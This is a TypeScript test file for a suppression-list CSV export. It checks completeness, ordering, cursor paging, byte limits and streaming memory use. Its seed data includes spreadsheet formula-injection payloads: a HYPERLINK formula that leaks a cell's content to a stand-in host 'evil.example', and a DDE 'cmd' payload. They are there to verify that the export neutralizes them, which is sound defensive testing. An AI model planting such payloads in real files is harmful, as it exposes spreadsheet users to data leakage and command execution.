import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS, exportSuppressions } from '#app/export-suppressions';
import { KINDS, type Kind } from '#domain/kinds';
import { SOURCES } from '#domain/sources';
import { type AdminApi, call, type SeedEntry, seedEntries, startAdminApi } from '../support/admin-api';
import { uniqueTenant } from '../support/repositories';

let api: AdminApi;
const tenant = uniqueTenant();
const ENTRIES = 20_000;
let seeded: SeedEntry[];

/** A value of each kind, distinct per index, already in normalized form. */
const exportValue = (kind: Kind, i: number): string => {
  switch (kind) {
    case 'email':
      return `export.person-${i}@example.org`;
    case 'domain':
      return `@export-${i}.example`;
    case 'phone':
      return `+1415${String(2_000_000 + i).padStart(7, '0')}`;
    case 'linkedin':
      return `linkedin.com/in/export-person-${i}`;
  }
};

/** The CSV row the export must write for a seeded entry (one source each), formula-neutralized. */
const expectedRow = (entry: SeedEntry): string[] => {
  const cells = [
    entry.value,
    entry.kind,
    entry.at.toISOString(),
    entry.source,
    entry.addedBy ?? '',
    entry.campaignId ?? '',
    entry.detail ? JSON.stringify(entry.detail) : '',
  ];
  return cells.map((cell) => (/^[=+\-@\t\r]/.test(cell) && !/^@[a-z0-9.-]+$/.test(cell) ? `'${cell}` : cell));
};

const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: false }) as string[][];
const sorted = (rows: string[][]) => rows.map((row) => JSON.stringify(row)).sort();

beforeAll(async () => {
  api = await startAdminApi();
  const start = Date.parse('2026-01-01T00:00:00.000Z');
  seeded = Array.from({ length: ENTRIES }, (_, i) => {
    const kind = KINDS[i % KINDS.length] as Kind;
    return {
      value: exportValue(kind, i),
      kind,
      source: SOURCES[i % SOURCES.length] as SeedEntry['source'],
      // Several entries share an instant, so the tiebreaker in the keys is exercised too.
      at: new Date(start + Math.floor(i / 3) * 60_000),
      ...(i % 5 === 0 ? { addedBy: `user-${i % 7}` } : {}),
      ...(i % 4 === 0 ? { campaignId: `campaign-${i % 11}` } : {}),
      ...(i % 6 === 0 ? { detail: { note: `row ${i}, with "quotes", commas\nand a line break` } } : {}),
    };
  });
  // Formula-injection attempts in every free-text cell, and values that start with formula characters.
  seeded.push(
    {
      value: '=1+2@example.com',
      kind: 'email',
      source: 'admin',
      at: new Date(start - 1000),
      addedBy: '@SUM(1+1)',
    },
    {
      value: '-2+3@example.com',
      kind: 'email',
      source: 'api',
      at: new Date(start - 2000),
      campaignId: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    },
    {
      value: '@plain-domain.example',
      kind: 'domain',
      source: 'admin',
      at: new Date(start - 3000),
      campaignId: "\t=cmd|' /C calc'!A0",
      addedBy: '+1-1',
    },
  );
  const started = performance.now();
  await seedEntries(api.services, tenant, seeded);
  console.log(`seeded ${seeded.length} entries in ${((performance.now() - started) / 1000).toFixed(1)} s`);
}, 120_000);

afterAll(async () => {
  await api?.close();
});

describe('the CSV export', () => {
  it('writes every entry of 20,000 once, newest first, and parses back to the same rows', async () => {
    const token = await api.credential(tenant, 'viewer');
    const response = await call(api, token, 'GET', '/v1/suppressions/export');

    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="quietlist-suppressions-/,
    );
    expect(response.headers.get('x-next-cursor')).toBeNull();
    const [header, ...rows] = parseCsv(await response.text());
    expect(header).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(seeded.length);
    expect(sorted(rows)).toEqual(sorted(seeded.map(expectedRow)));
    const times = rows.map((row) => row[2] as string);
    expect(times).toEqual([...times].sort().reverse());
  }, 60_000);

  it('neutralizes cells a spreadsheet would run, and keeps domain entries readable', async () => {
    const token = await api.credential(tenant, 'viewer');
    const response = await call(api, token, 'GET', '/v1/suppressions/export?q=%3D1');
    const rows = parseCsv(await response.text());
    expect(rows[1]?.slice(0, 5)).toEqual([
      "'=1+2@example.com",
      'email',
      expect.any(String),
      'admin',
      "'@SUM(1+1)",
    ]);

    const all = parseCsv(
      await (await call(api, token, 'GET', '/v1/suppressions/export?source=admin,api&to=2025-12-31')).text(),
    );
    const byValue = new Map(all.slice(1).map((row) => [row[0], row]));
    expect(byValue.get("'-2+3@example.com")?.[5]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"open")');
    const domain = byValue.get('@plain-domain.example');
    expect(domain?.[4]).toBe("'+1-1");
    expect(domain?.[5]).toBe("'\t=cmd|' /C calc'!A0");
    // Nothing else in the whole export starts with a formula character.
    for (const row of all.slice(1)) {
      for (const cell of row) {
        if (cell === row[0] && row[1] === 'domain') expect(cell).toMatch(/^@[a-z0-9.-]+$/);
        else expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('splits a large export into parts joined by X-Next-Cursor, each entry in exactly one part', async () => {
    const token = await api.credential(tenant, 'admin');
    const rows: string[][] = [];
    let cursor: string | null = null;
    let parts = 0;
    do {
      const query: string = `?kind=email,phone&limit=4000${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
      const response = await call(api, token, 'GET', `/v1/suppressions/export${query}`);
      expect(response.status).toBe(200);
      const [header, ...part] = parseCsv(await response.text());
      expect(header).toEqual([...EXPORT_COLUMNS]);
      expect(part.length).toBeLessThanOrEqual(4000);
      rows.push(...part);
      cursor = response.headers.get('x-next-cursor');
      parts++;
    } while (cursor);
    const expected = seeded
      .filter((entry) => entry.kind === 'email' || entry.kind === 'phone')
      .map(expectedRow);
    expect(parts).toBe(Math.ceil(expected.length / 4000) + (expected.length % 4000 === 0 ? 1 : 0));
    expect(rows).toHaveLength(expected.length);
    expect(sorted(rows)).toEqual(sorted(expected));
  }, 60_000);

  it('cuts a part at its byte budget inside a page and goes on from the next entry', async () => {
    const run = exportSuppressions({
      suppressions: api.services.suppressions,
      cursorKey: api.services.keyring.cursorKey,
    });
    const search = { kinds: ['domain' as const] };
    const rows: string[][] = [];
    let cursor: string | null = null;
    let parts = 0;
    do {
      const part = run({
        tenantId: tenant,
        search,
        maxBytes: 64 * 1024,
        pageSize: 500,
        ...(cursor ? { cursor } : {}),
      });
      let text = '';
      let step = await part.next();
      while (!step.done) {
        text += step.value;
        step = await part.next();
      }
      expect(Buffer.byteLength(text)).toBeLessThanOrEqual(64 * 1024);
      rows.push(...parseCsv(text).slice(1));
      cursor = step.value;
      parts++;
    } while (cursor);
    const expected = seeded.filter((entry) => entry.kind === 'domain').map(expectedRow);
    expect(parts).toBeGreaterThan(3);
    expect(sorted(rows)).toEqual(sorted(expected));
  }, 60_000);

  it('holds one page at a time: memory stays flat while 20,000 entries stream through', async () => {
    setFlagsFromString('--expose-gc');
    const gc = runInNewContext('gc') as () => void;
    const run = exportSuppressions({
      suppressions: api.services.suppressions,
      cursorKey: api.services.keyring.cursorKey,
    });
    /** Streams the whole export into `sink`; returns the largest heap growth seen after collections. */
    const heapGrowth = async (sink: (chunk: string) => void): Promise<number> => {
      gc();
      const base = process.memoryUsage().heapUsed;
      let peak = 0;
      let chunks = 0;
      for await (const chunk of run({ tenantId: tenant, search: {}, maxBytes: Number.POSITIVE_INFINITY })) {
        sink(chunk);
        if (++chunks % 4 === 0) {
          gc();
          peak = Math.max(peak, process.memoryUsage().heapUsed - base);
        }
      }
      gc();
      return Math.max(peak, process.memoryUsage().heapUsed - base);
    };

    let bytes = 0;
    const streamed = await heapGrowth((chunk) => {
      bytes += chunk.length;
    });
    const kept: string[] = [];
    const accumulated = await heapGrowth((chunk) => {
      kept.push(chunk);
    });

    console.log(
      `export of ${seeded.length} entries: ${(bytes / 1e6).toFixed(1)} MB of CSV; heap growth streaming ${(streamed / 1e6).toFixed(2)} MB, keeping it all ${(accumulated / 1e6).toFixed(2)} MB`,
    );
    expect(bytes).toBeGreaterThan(1_500_000);
    // The measurement can tell: keeping the CSV grows the heap by about its size...
    expect(accumulated).toBeGreaterThan(bytes * 0.8);
    // ...while streaming it holds about one page, a fraction of the whole.
    expect(streamed).toBeLessThan(bytes / 4);
    expect(kept.length).toBeGreaterThan(20);
  }, 60_000);
});
